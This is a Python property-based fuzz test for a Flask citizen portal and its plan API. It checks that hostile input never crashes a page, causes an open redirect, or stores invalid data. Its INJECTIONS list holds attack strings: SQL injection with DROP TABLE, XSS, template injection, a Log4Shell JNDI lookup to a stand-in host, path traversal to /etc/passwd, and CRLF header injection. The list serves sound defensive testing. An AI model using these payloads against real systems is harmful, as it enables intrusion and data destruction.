"""Hostile input: property-based fuzzing of every route, its path parameters, query
parameters and form fields (oversized, wrong types, unicode, injection strings).

The portal runs in the Flask test client against the *real* plan API app in the same
process (httpx's WSGI transport, demo data in a scratch SQLite file): no fakes, so every
refusal is the one production would give. Answers allowed: 200, 302/303 (303 is the
portal's redirect after a form POST), 400, 403, 404, 422, and 413 only for a body over
MAX_CONTENT_LENGTH, and 308 (Werkzeug merging doubled slashes) if it stays on the site.
Every redirect must stay on the site (no open redirect). CSRF is off here so the input
reaches the views (CSRF itself is tested in the unit tests). Afterwards (the portal app's
teardown) nothing was stored that should not be: every outbox row is one the plan API
accepted, for the signed-in person; every draft holds only valid answers. scripts/test.sh
runs this file in two processes (pytest -n 2); each checks what it stored.
"""

from __future__ import annotations

import io
import re
import shutil
import tempfile
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any
from urllib.parse import quote

import httpx
import pytest
from flask import Flask
from flask.testing import FlaskClient
from flask_migrate import upgrade
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sqlalchemy import select
from werkzeug.datastructures import FileStorage
from werkzeug.test import encode_multipart

from planapi import MIGRATIONS, clock
from planapi import create_app as create_planapi
from planapi.demo import load
from planapi.extensions import db as planapi_db
from planapi.models import Document
from portal import create_app
from portal.drafts import QuestionnaireDraft
from portal.extensions import db
from portal.models import OutboxMessage
from portal.uploads import sniff
from tests.unit.conftest import SignIn

TOKEN = "fuzz-service-token"
ALLOWED = {200, 302, 303, 400, 403, 404, 422}
# Werkzeug's canonical-URL redirect (doubled slashes merged): allowed if it stays on the site.
SAME_SITE_REDIRECTS = {308}
EXAMPLES = 20
INJECTIONS = [
    "' OR 1=1 --",
    '"; DROP TABLE outbox_message; --',
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "{{7*7}}{% raw %}",
    "${jndi:ldap://x.example/a}",
    "../../../etc/passwd",
    "..%2f..%2f",
    "%00",
    "\x00",
    "\r\nSet-Cookie: x=1",
    "\u202eevil",
    "javascript:alert(1)",
    "//evil.example/",
    "https://evil.example/",
    "-1",
    "0",
    "9" * 40,
    "1e309",
    "NaN",
    "[]",
    "{}",
    "null",
    "true",
    "😀" * 50,
    "æøå ÆØÅ",
    "p-mette",
    "p-jonas",
    "p-emma",
    "cw-lene",
    "who-5",
    "c-1",
    "a" * 33,
    "0123456789abcdef0123456789abcdef",
]
# Every name the views read (request.args/form), and the answer fields q-<item>.
PARAMS = [
    "next",
    "reason",
    "state",
    "code",
    "error",
    "vis",
    "vaelg",
    "afdeling",
    "hvem",
    "fra",
    "til",
    "side",
    "hent",
    "form_key",
    "department",
    "action",
    "text_version",
    "purpose",
    "person_id",
    "identity",
    "level",
    "idempotency_key",
    "edit",
    "date_1",
    "date_2",
    "part_1",
    "q-who5-1",
    "q-who5-2",
    "q-who5-3",
    "q-who5-4",
    "q-who5-5",
    "csrf_token",
    "body",
    "contact_id",
    "letter_id",
    "klage",
    "sendt",
    "venter",
]

hostile = st.one_of(
    st.sampled_from(INJECTIONS),
    st.text(max_size=40),
    st.integers().map(str),
    st.floats(allow_nan=True).map(str),
    st.binary(max_size=40).map(lambda b: b.decode("latin-1")),
    st.builds(lambda c, n: c * n, st.sampled_from(["a", "ø", "😀", "<"]), st.integers(300, 9000)),
)
# A file field (routes whose view takes files): hostile bytes under a hostile name, or one of
# the files a citizen might really send.
REAL_FILES = [
    b"%PDF-1.4\n%%EOF\n",
    b"\x89PNG\r\n\x1a\n" + b"\x00" * 20,
    b"MZ\x90\x00" + b"\x00" * 20,
]
files = st.tuples(
    st.one_of(st.sampled_from(INJECTIONS), st.text(max_size=60)),
    st.one_of(st.sampled_from(REAL_FILES), st.binary(max_size=2000)),
)
fields = st.lists(
    st.tuples(st.one_of(st.sampled_from(PARAMS), st.text(max_size=12)), hostile), max_size=8
)
path_value = st.one_of(st.sampled_from(INJECTIONS), st.text(min_size=1, max_size=60))


def _scratch(tmp_path_factory: pytest.TempPathFactory, name: str) -> Path:
    """In memory-backed /dev/shm when there is one: SQLite syncs on every commit."""
    shm = Path("/dev/shm")  # noqa: S108 - a private mkdtemp directory inside it
    if shm.is_dir():
        return Path(tempfile.mkdtemp(prefix="mo-fuzz-", dir=shm)) / name
    return Path(tmp_path_factory.mktemp("fuzz")) / name


def _as_a_server_would(app: Flask) -> Callable[..., Any]:
    """PATH_INFO as bytes-in-latin-1 (PEP 3333), as gunicorn passes it; httpx's WSGI
    transport passes decoded text, which no real server does."""

    def middleware(environ: dict[str, Any], start_response: Callable[..., Any]) -> Any:
        environ["PATH_INFO"] = environ["PATH_INFO"].encode("utf-8").decode("latin-1")
        return app(environ, start_response)

    return middleware


@pytest.fixture(scope="module")
def planapi_app(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Flask]:
    path = _scratch(tmp_path_factory, "planapi.db")
    app = create_planapi(
        {
            "TESTING": True,
            "SQLALCHEMY_DATABASE_URI": f"sqlite:///{path}",
            "PLANAPI_SERVICE_TOKEN": TOKEN,
        }
    )
    with app.app_context():
        upgrade(directory=MIGRATIONS)
        load(planapi_db.session(), clock.today())
        planapi_db.session.remove()
    yield app
    with app.app_context():
        planapi_db.engine.dispose()
    shutil.rmtree(path.parent, ignore_errors=True)


@pytest.fixture(scope="module")
def portal_app(planapi_app: Flask, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Flask]:
    path = _scratch(tmp_path_factory, "portal.db")
    app = create_app(
        {
            "PLANAPI_TRANSPORT": httpx.WSGITransport(app=_as_a_server_would(planapi_app)),
            "PLANAPI_SERVICE_TOKEN": TOKEN,
            "SQLALCHEMY_DATABASE_URI": f"sqlite:///{path}",
            "WTF_CSRF_ENABLED": False,
        },
        env="test",
    )
    with app.app_context():
        db.create_all()
    yield app
    try:
        assert_nothing_stored_that_should_not_be(app, planapi_app)
    finally:
        with app.app_context():
            db.engine.dispose()
        shutil.rmtree(path.parent, ignore_errors=True)


def _routes() -> list[tuple[str, str]]:
    app = create_app(env="test")
    found = []
    for rule in app.url_map.iter_rules():
        if rule.endpoint == "static":
            continue
        for method in sorted((rule.methods or set()) - {"HEAD", "OPTIONS"}):
            found.append((method, rule.rule))
    return sorted(found)


ROUTES = _routes()
# Starting a login leaves for the identity provider (another server): not fuzzed here.
ROUTES = [(m, r) for m, r in ROUTES if r not in ("/log-ind", "/medarbejder/log-ind")]
_ARG = re.compile(r"<(?:(\w+)(?:\(([^)]*)\))?:)?(\w+)>")


def _fill(rule: str, draw: Any) -> str:
    def value(match: re.Match[str]) -> str:
        converter, args = match.group(1), match.group(2)
        if converter == "any":
            choices = [a.strip().strip("'\"") for a in (args or "").split(",")]
            return draw(st.sampled_from(choices))
        return quote(draw(path_value), safe="")

    return _ARG.sub(value, rule)


def _who(client: FlaskClient, who: str) -> None:
    sign = SignIn(client)
    if who == "citizen":
        sign("p-mette", "Mette Lund Sørensen")
    elif who == "parent":
        sign(
            "p-emma",
            "Emma Kjær Poulsen",
            basis="custody",
            actor=("p-anders", "Anders Kjær Poulsen"),
            age=15,
        )
    else:
        sign("p-mette", "Mette Lund Sørensen", caseworker=("cw-lene", "Lene Bach"))


@pytest.mark.parametrize("who", ["citizen", "parent", "caseworker"])
@pytest.mark.parametrize(("method", "rule"), ROUTES, ids=[f"{m} {r}" for m, r in ROUTES])
def test_hostile_input_never_breaks_a_page(
    portal_app: Flask, method: str, rule: str, who: str
) -> None:
    client = portal_app.test_client()
    _who(client, who)
    limit = int(portal_app.config["MAX_CONTENT_LENGTH"])
    endpoints = {r.rule: r.endpoint for r in portal_app.url_map.iter_rules()}

    @settings(
        max_examples=EXAMPLES,
        deadline=None,
        database=None,
        derandomize=True,  # the same examples on every run: a failure in CI reproduces
        suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
    )
    @given(data=st.data(), query=fields, form=fields)
    def check(
        data: st.DataObject, query: list[tuple[str, str]], form: list[tuple[str, str]]
    ) -> None:
        path = _fill(rule, data.draw)
        view = portal_app.view_functions.get(endpoints.get(rule, ""))
        if method == "GET":
            response = client.open(path, method=method, query_string=query)
            size = 0
        elif getattr(view, "_accepts_files", False):
            name, content = data.draw(files)
            values: dict[str, Any] = dict(form)
            values["file"] = FileStorage(io.BytesIO(content), filename=name)
            boundary, multipart = encode_multipart(values)
            size = len(multipart)
            response = client.open(
                path,
                method=method,
                query_string=query,
                data=multipart,
                content_type=f"multipart/form-data; boundary={boundary}",
            )
        else:
            body = "&".join(f"{quote(k)}={quote(v)}" for k, v in form)
            size = len(body.encode())
            response = client.open(
                path,
                method=method,
                query_string=query,
                data=body,
                content_type="application/x-www-form-urlencoded",
            )
        status = response.status_code
        allowed = ALLOWED | SAME_SITE_REDIRECTS | ({413} if size > limit else set())
        assert status in allowed, f"{method} {path} → {status}"
        if 300 <= status < 400:
            location = response.headers.get("Location", "")
            site = location.removeprefix("http://localhost")
            assert site.startswith("/") and not site.startswith("//"), f"{path} → {location}"
        assert b"Traceback" not in response.data

    check()


def assert_nothing_stored_that_should_not_be(portal_app: Flask, planapi_app: Flask) -> None:
    """After the fuzzing (the portal app's teardown, in every process when the suite runs in
    parallel): what the portal stored is only what the plan API accepted, and every
    document the plan API keeps is a PDF or a photo by its content."""
    with planapi_app.app_context():
        for document in planapi_db.session.scalars(select(Document)):
            assert sniff(document.content) == document.content_type, document.filename
            assert document.size == len(document.content) > 0
    with portal_app.app_context():
        for message in db.session.scalars(select(OutboxMessage)):
            assert message.status == "delivered", (message.kind, message.last_error)
            assert message.person_id in ("p-mette", "p-emma"), message.person_id
            assert message.path.startswith(f"/v1/persons/{message.person_id}/"), message.path
        for draft in db.session.scalars(select(QuestionnaireDraft)):
            assert re.fullmatch(r"[0-9a-f]{32}", draft.form_key), draft.form_key
            items = {i["id"]: i for i in (draft.instrument or {}).get("items", [])}
            assert set(draft.answers) <= set(items), draft.answers
            assert all(isinstance(v, int) for v in draft.answers.values()), draft.answers
